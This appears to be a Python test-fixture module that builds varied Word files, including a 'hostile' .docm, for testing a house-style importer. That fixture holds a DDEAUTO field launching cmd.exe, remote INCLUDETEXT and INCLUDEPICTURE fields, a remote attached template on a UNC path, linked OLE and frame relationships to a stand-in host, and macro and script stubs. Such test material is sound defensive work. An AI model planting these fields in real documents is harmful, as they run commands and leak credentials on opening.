"""Word files as organisations have them, and as nobody should have them, to be used as house style."""

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
from docx.enum.section import WD_ORIENT, WD_SECTION
from docx.oxml import parse_xml
from docx.shared import Cm, Pt, RGBColor

from kits.reports import charts, templates
from kits.reports.house_style import package

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ELSEWHERE = "http://elders.example/"


def repacked(data: bytes, change: Callable[[dict[str, bytes]], None]) -> bytes:
    """Return a Word file after `change` has changed its parts."""
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        parts = {name: file.read(name) for name in file.namelist()}
    change(parts)
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return made.getvalue()


def bytes_of(document) -> bytes:
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def paged(width: float, height: float, margin: float, *, font: str = "", size: float = 0, start=None) -> bytes:
    document = docx.Document(start)
    for section in document.sections:
        section.page_width, section.page_height = Cm(width), Cm(height)
        section.left_margin = section.right_margin = section.top_margin = section.bottom_margin = Cm(margin)
    if font:
        document.styles["Normal"].font.name = font
    if size:
        document.styles["Normal"].font.size = Pt(size)
    return bytes_of(document)


def with_sections() -> bytes:
    """A cover, upright pages with a header, and a wide annex."""
    document = docx.Document()
    document.add_paragraph("Omslag")
    main = document.add_section(WD_SECTION.NEW_PAGE)
    main.header.is_linked_to_previous = False
    main.header.paragraphs[0].text = "Woonstichting De Linde"
    main.left_margin = Cm(3)
    document.add_paragraph("Tekst")
    annex = document.add_section(WD_SECTION.NEW_PAGE)
    annex.orientation = WD_ORIENT.LANDSCAPE
    annex.page_width, annex.page_height = annex.page_height, annex.page_width
    return bytes_of(document)


def in_dutch() -> bytes:
    """Style names as a program that translates them stores them."""

    def change(parts: dict[str, bytes]) -> None:
        text = parts["word/styles.xml"].decode()
        for word, dutch in (("heading 1", "Kop 1"), ("heading 2", "Kop 2"), ("Normal", "Standaard"), ("Title", "Titel")):
            text = text.replace(f'<w:name w:val="{word}"/>', f'<w:name w:val="{dutch}"/>')
        parts["word/styles.xml"] = text.replace('"Heading1"', '"Kop1"').encode()

    document = docx.Document()
    document.styles["Heading 1"].font.color.rgb = RGBColor(0x7A, 0x1F, 0x3D)
    document.styles["Heading 1"].font.name = "Georgia"
    return repacked(bytes_of(document), change)


def strict() -> bytes:
    """Strict OOXML: other namespaces, and measures with their unit."""

    def change(parts: dict[str, bytes]) -> None:
        for name in [name for name in parts if name.endswith((".xml", ".rels"))]:
            for old, new in package.NAMESPACES.items():
                parts[name] = parts[name].replace(new, package.STRICT + old)
            parts[name] = re.sub(rb'(w:(?:w|h|left|right|top|bottom)=")(\d{3,5})"', _in_points, parts[name])

    return repacked(paged(21, 29.7, 3), change)


def _in_points(found: re.Match[bytes]) -> bytes:
    return found[1] + f'{int(found[2]) / 20:.2f}pt"'.encode()


def of_kind(kind: str, start: bytes) -> bytes:
    """The same file as a template (.dotx) or with macros (.docm)."""
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    other = {
        "dotx": "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
        "docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
    }[kind]

    def change(parts: dict[str, bytes]) -> None:
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(main.encode(), other.encode())

    return repacked(start, change)


def without_anything() -> bytes:
    """A body and no more: no styles, no page, no settings."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        file.writestr(
            "[Content_Types].xml",
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{WORD}.document.main+xml"/></Types>',
        )
        file.writestr("_rels/.rels", relations(("rId1", "officeDocument", "word/document.xml", "")))
        file.writestr("word/document.xml", f"<w:document {W}><w:body><w:p/></w:body></w:document>")
    return made.getvalue()


def relations(*entries: tuple[str, str, str, str]) -> str:
    inside = "".join(
        f'<Relationship Id="{i}" Type="{R}/{kind}" Target="{target}"' + (f' TargetMode="{mode}"/>' if mode else "/>")
        for i, kind, target, mode in entries
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inside}</Relationships>'


def awkward() -> bytes:
    """Ordinary text that is indented, spread and of a fixed line height; a logo high in the header; a prompt."""
    document = docx.Document()
    normal = document.styles["Normal"]
    normal.paragraph_format.left_indent, normal.paragraph_format.first_line_indent = Cm(2), Cm(1)
    normal.paragraph_format.alignment = 3
    normal.paragraph_format.line_spacing = Pt(14)
    header = document.sections[0].header
    header.paragraphs[0].add_run().add_picture(io.BytesIO(charts.votes((charts.Bar("Logo", 3),))), height=Cm(4))
    header._element.append(
        parse_xml(
            f"<w:sdt {W}><w:sdtPr><w:showingPlcHdr/></w:sdtPr><w:sdtContent><w:p><w:r>"
            "<w:t>Klik om te typen</w:t></w:r></w:p>"
            "</w:sdtContent></w:sdt>"
        )
    )
    return bytes_of(document)


def field(code: str, shown: str) -> str:
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in (code[:3], code[3:]))
        + f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{shown}</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def hostile() -> bytes:
    """Everything that calls elsewhere or does something by itself, in one file."""
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "Kop"
    document.sections[0].footer.paragraphs[0].text = "Voet"
    pages = field(" PAGE ", "1")
    nested = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> IF </w:instrText></w:r>'
        + field(f' INCLUDETEXT "{ELSEWHERE}tekst" ', "ingevoegd")
        + '<w:r><w:instrText> = 1 a b </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        "<w:r><w:t>als</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    header = (
        f'<w:hdr {W} xmlns:r="{R}" xmlns:v="urn:schemas-microsoft-com:vml" '
        'xmlns:o="urn:schemas-microsoft-com:office:office" '
        'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:p>'
        f"{pages}{nested}"
        + field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ', "dde")
        + field(f' INCLUDEPICTURE "{ELSEWHERE}p.png" \\d ', "plaatje")
        + f'<w:fldSimple w:instr=" DDE Excel blad "><w:r><w:t>enkel</w:t></w:r></w:fldSimple>'
        f'<w:hyperlink r:id="rIdLink"><w:r><w:t>onze site</w:t></w:r></w:hyperlink>'
        f'<w:r><w:pict><v:shape href="{ELSEWHERE}v" style="width:9pt;height:9pt"><v:imagedata r:id="rIdPicture" '
        f'src="{ELSEWHERE}i.png"/></v:shape></w:pict></w:r>'
        '<w:r><w:object><v:shape/><o:OLEObject Type="Link" ProgID="Excel.Sheet" r:id="rIdOle"/></w:object></w:r>'
        '<w:r><w:drawing><wp:inline><wp:extent cx="9" cy="9"/>'
        '<wp:docPr id="1" name="x"><a:hlinkClick r:id="rIdLink"/></wp:docPr>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
        '<pic:cNvPr id="0" name=""/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rIdPicture"/><a:stretch/>'
        "</pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p></w:hdr>"
    )

    def change(parts: dict[str, bytes]) -> None:
        parts["word/header1.xml"] = header.encode()
        parts["word/_rels/header1.xml.rels"] = relations(
            ("rIdLink", "hyperlink", ELSEWHERE, "External"),
            ("rIdPicture", "image", f"{ELSEWHERE}logo.png", "External"),
            ("rIdOle", "oleObject", "file://elders.example/b.xlsx", "External"),
        ).encode()
        parts["word/vbaProject.bin"] = b"macro"
        parts["word/embeddings/o.bin"] = b"object"
        parts["word/afchunk.html"] = b"<script>"
        parts["word/_rels/settings.xml.rels"] = relations(
            ("rIdT", "attachedTemplate", "\\\\elders.example\\deel\\n.dotm", "External"),
        ).encode()
        parts["word/settings.xml"] = parts["word/settings.xml"].replace(
            b"</w:settings>",
            f'<w:attachedTemplate xmlns:r="{R}" r:id="rIdT"/><w:documentProtection w:edit="readOnly" w:enforcement="1"/>'
            f'<w:mailMerge><w:query w:val="{ELSEWHERE}"/></w:mailMerge></w:settings>'.encode(),
        )
        parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
            b"</Relationships>",
            b'<Relationship Id="rIdM" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            b'Target="vbaProject.bin"/>'
            + f'<Relationship Id="rIdA" Type="{R}/aFChunk" Target="afchunk.html"/>'
            f'<Relationship Id="rIdF" Type="{R}/frame" Target="{ELSEWHERE}frame" TargetMode="External"/>'
            "</Relationships>".encode(),
        )
        parts["word/document.xml"] = parts["word/document.xml"].replace(
            b"<w:sectPr", f'<w:altChunk xmlns:r="{R}" r:id="rIdA"/><w:sectPr'.encode(), 1
        )

    return of_kind("docm", repacked(bytes_of(document), change))


KINDS: dict[str, Callable[[], bytes]] = {
    "as Word begins": lambda: bytes_of(docx.Document()),
    "our own with wide margins": lambda: paged(21, 29.7, 4, start=templates.HOUSE_STYLE),
    "A5 in a wide font": lambda: paged(14.8, 21, 2, font="DejaVu Sans", size=12),
    "A3 lying": lambda: paged(42, 29.7, 2.5, font="Times New Roman", size=11),
    "a font nobody has": lambda: paged(21, 29.7, 2.5, font="Woonstad Sans", size=10),
    "several sections": with_sections,
    "in Dutch": in_dutch,
    "Strict": strict,
    "a template": lambda: of_kind("dotx", Path(templates.HOUSE_STYLE).read_bytes()),
    "nothing in it": without_anything,
    "awkward": awkward,
    "margins wider than the page": lambda: paged(21, 29.7, 12),
    "hostile": hostile,
}
